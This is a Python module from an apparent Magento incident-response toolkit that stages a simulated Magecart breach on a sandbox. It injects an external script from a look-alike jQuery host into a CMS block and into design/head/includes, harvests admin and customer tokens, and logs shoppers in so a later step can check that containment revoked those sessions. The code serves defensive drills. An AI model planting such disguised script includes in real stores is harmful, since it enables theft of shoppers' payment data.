"""Staging a breach on a served sandbox, as an attacker and shoppers would, over real HTTP.

Only what has no Magento route is written straight into the sandbox's state (a skimmer in
`design/head/includes` is planted through the admin panel or SQL, not REST) and it is reported so.
"""

from __future__ import annotations

import asyncio
import re
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from magento_ir._async import AsyncMagentoClient
from magento_ir._core.search_criteria import SearchCriteria
from magento_ir._exceptions import AuthenticationError
from magento_ir._http import AsyncClient
from magento_ir.auth import AdminCredentials, BearerToken
from magento_ir.drill._report import CheckReport, StagedItem

if TYPE_CHECKING:
    from magento_ir.sandbox import Sandbox

__all__ = ["SKIMMER_SCRIPT", "StagedBreach", "stage_magecart"]

# A skimmer as seen in the wild: an external script dressed up as a library, on a look-alike host.
SKIMMER_SCRIPT = '<script src="https://cdn-jquery-min.example.org/jquery-3.7.1.min.js"></script>'
SKIMMER_BLOCK_IDENTIFIER = "checkout-trust-badges"
_STOLEN_CUSTOMERS = 3
_HTTP_OK = 200
_HTTP_NOT_FOUND = 404
_LOGIN_FORM = "/customer/account/login/"
_LOGIN_PAGE = "/customer/account/loginPost/"
_FORM_KEY = re.compile(r'name="form_key" value="([A-Za-z0-9]+)"')
# Reads one of which each reference admin role may make (all, support: sales, catalog: CMS).
_ADMIN_PROBES = (
    "/V1/store/websites",
    "/V1/orders?searchCriteria[pageSize]=1",
    "/V1/cmsBlock/search?searchCriteria[pageSize]=1",
)
_ACCOUNT_PAGE = "/customer/account"


@dataclass(slots=True)
class StagedBreach:
    """What the attacker and the shoppers hold: used afterwards to check from their side."""

    items: list[StagedItem] = field(default_factory=list)
    skimmer_block_ids: list[int] = field(default_factory=list)
    customer_tokens: list[str] = field(default_factory=list, repr=False)
    # Each admin token with a route its role may read: Magento's 401 also means "no ACL".
    admin_tokens: list[tuple[str, str]] = field(default_factory=list, repr=False)
    # One cookie jar per logged-in shopper (a storefront session).
    storefront_sessions: list[AsyncClient] = field(default_factory=list, repr=False)
    orders_in_flight: int = 0
    notes: list[str] = field(default_factory=list)

    async def close(self) -> None:
        for session in self.storefront_sessions:
            await session.aclose()


async def stage_magecart(
    sandbox: Sandbox, base_url: str, *, admin_user: str, admin_password: str
) -> StagedBreach:
    """A Magecart skimmer in checkout, live customer and admin sessions, orders in flight."""
    breach = StagedBreach()
    attacker = AsyncMagentoClient(base_url, auth=AdminCredentials(admin_user, admin_password))
    async with attacker:
        await _plant_block(attacker, breach)
        _plant_head_include(sandbox, breach)
        await _admin_sessions(sandbox, attacker, base_url, breach)
        await _customer_sessions(sandbox, attacker, base_url, breach)
        await _orders_in_flight(attacker, breach)
    return breach


async def _plant_block(attacker: AsyncMagentoClient, breach: StagedBreach) -> None:
    answer = await attacker.request(
        "POST",
        "/V1/cmsBlock",
        json={
            "block": {
                "identifier": SKIMMER_BLOCK_IDENTIFIER,
                "title": "Checkout trust badges",
                "content": f'<div class="trust-badges"></div>{SKIMMER_SCRIPT}',
                "active": True,
            }
        },
    )
    block_id = int(answer["id"]) if isinstance(answer, dict) else 0
    breach.skimmer_block_ids.append(block_id)
    # The reference store's own `footer-promo` block already loads an external script.
    existing = await attacker.cms_blocks.list(
        SearchCriteria().where("content", "like", "%<script%")
    )
    others = [block.id for block in existing.items if block.id != block_id]
    breach.skimmer_block_ids.extend(block_id for block_id in others if block_id is not None)
    breach.items.append(
        StagedItem(
            "skimmer in CMS blocks",
            f"POST /V1/cmsBlock (id {block_id}, stolen admin login); already present: "
            f"{', '.join(str(other) for other in others) or 'none'}",
            len(breach.skimmer_block_ids),
        )
    )


def _plant_head_include(sandbox: Sandbox, breach: StagedBreach) -> None:
    with sandbox.lock:
        state = sandbox.state
        current = state.config_value("design/head/includes") or ""
        state.set_config("design/head/includes", current + SKIMMER_SCRIPT)
    breach.items.append(
        StagedItem(
            "skimmer in design/head/includes",
            "written into core_config_data (no REST route: attackers use the admin panel or SQL)",
            1,
        )
    )


async def _admin_sessions(
    sandbox: Sandbox, attacker: AsyncMagentoClient, base_url: str, breach: StagedBreach
) -> None:
    """Admin tokens of every admin user of the reference store (the same password)."""
    usernames = sorted(user.username for user in _admin_users(sandbox))
    password = sandbox.options.admin_password
    tokens = await asyncio.gather(
        *(attacker.tokens.admin(username, password) for username in usernames)
    )
    for token in tokens:
        for path in _ADMIN_PROBES:
            if not await token_refused(base_url, token, path):
                breach.admin_tokens.append((token, path))
                break
    breach.items.append(
        StagedItem(
            "live admin API sessions",
            f"POST /V1/integration/admin/token as {', '.join(usernames)}",
            len(breach.admin_tokens),
        )
    )


def _admin_users(sandbox: Sandbox) -> list[_AdminUserView]:
    with sandbox.lock:
        return [
            _AdminUserView(user.username)
            for user in sandbox.state.admin_users.values()
            if user.is_active
        ]


@dataclass(frozen=True, slots=True)
class _AdminUserView:
    username: str


async def _customer_sessions(
    sandbox: Sandbox, attacker: AsyncMagentoClient, base_url: str, breach: StagedBreach
) -> None:
    """Customer tokens and storefront logins of a few shoppers (real logins over HTTP)."""
    page = await attacker.customers.list(SearchCriteria().page(_STOLEN_CUSTOMERS, 1))
    emails = [customer.email for customer in page.items if customer.email]
    password = sandbox.options.customer_password
    tokens = await asyncio.gather(*(attacker.tokens.customer(email, password) for email in emails))
    breach.customer_tokens.extend(tokens)
    breach.items.append(
        StagedItem(
            "live customer API tokens",
            "POST /V1/integration/customer/token as " + ", ".join(emails),
            len(tokens),
        )
    )
    logged_in = 0
    for email in emails:
        session = AsyncClient(base_url=base_url, follow_redirects=False, timeout=30)
        # Magento's login form carries a per-session form key; a POST without it is refused.
        form = await session.get(_LOGIN_FORM)
        found = _FORM_KEY.search(form.text)
        answer = await session.post(
            _LOGIN_PAGE,
            data={
                "form_key": found.group(1) if found else "",
                "login[username]": email,
                "login[password]": password,
            },
        )
        if answer.status_code == _HTTP_NOT_FOUND:
            await session.aclose()
            breach.notes.append(
                "storefront sessions were not staged: this sandbox has no storefront login page"
            )
            break
        if await storefront_logged_in(session):
            breach.storefront_sessions.append(session)
            logged_in += 1
        else:
            await session.aclose()
    breach.items.append(
        StagedItem(
            "live storefront sessions (cookies)",
            f"GET {_LOGIN_FORM} (form key), POST {_LOGIN_PAGE}, then GET {_ACCOUNT_PAGE} "
            "answers 200",
            logged_in,
        )
    )


async def storefront_logged_in(session: AsyncClient) -> bool:
    """The storefront's account page answers 200 only to a logged-in session (else a redirect)."""
    answer = await session.get(_ACCOUNT_PAGE)
    return answer.status_code == _HTTP_OK


async def _orders_in_flight(attacker: AsyncMagentoClient, breach: StagedBreach) -> None:
    page = await attacker.orders.list(
        SearchCriteria().where("state", "in", ["new", "processing"]).page(1, 1)
    )
    breach.orders_in_flight = page.total_count
    breach.items.append(
        StagedItem(
            "orders in flight (state new or processing)",
            "generated by the sandbox; counted with GET /V1/orders",
            page.total_count,
        )
    )


async def token_refused(base_url: str, token: str, path_and_query: str) -> bool:
    """Whether a token is refused (401) on a read it could make before."""
    path, _, query = path_and_query.partition("?")
    params = dict(pair.split("=", 1) for pair in query.split("&")) if query else None
    probe = AsyncMagentoClient(base_url, auth=BearerToken(token), max_retries=0)
    async with probe:
        try:
            await probe.request("GET", path, params=params)
        except AuthenticationError:
            return True
    return False


async def attacker_checks(base_url: str, breach: StagedBreach) -> list[CheckReport]:
    """What the attacker and the hijacked shoppers can still do after containment."""
    checks: list[CheckReport] = []
    refused = [
        await token_refused(base_url, token, "/V1/customers/me") for token in breach.customer_tokens
    ]
    checks.append(
        CheckReport(
            "customer tokens issued before containment are refused",
            all(refused) if refused else None,
            f"GET /V1/customers/me: {sum(refused)} of {len(refused)} answered 401",
        )
    )
    admin_refused = [
        await token_refused(base_url, token, path) for token, path in breach.admin_tokens
    ]
    checks.append(
        CheckReport(
            "admin tokens issued before containment are refused",
            all(admin_refused) if admin_refused else None,
            f"a read each admin's role allowed before: {sum(admin_refused)} of "
            f"{len(admin_refused)} answered 401",
        )
    )
    if breach.storefront_sessions:
        still_in = [await storefront_logged_in(session) for session in breach.storefront_sessions]
        checks.append(
            CheckReport(
                "storefront sessions are logged out",
                not any(still_in),
                f"GET {_ACCOUNT_PAGE} with each session cookie: "
                f"{len(still_in) - sum(still_in)} of {len(still_in)} logged out",
            )
        )
    else:
        checks.append(
            CheckReport(
                "storefront sessions are logged out",
                None,
                "no storefront session could be staged on this sandbox",
            )
        )
    return checks
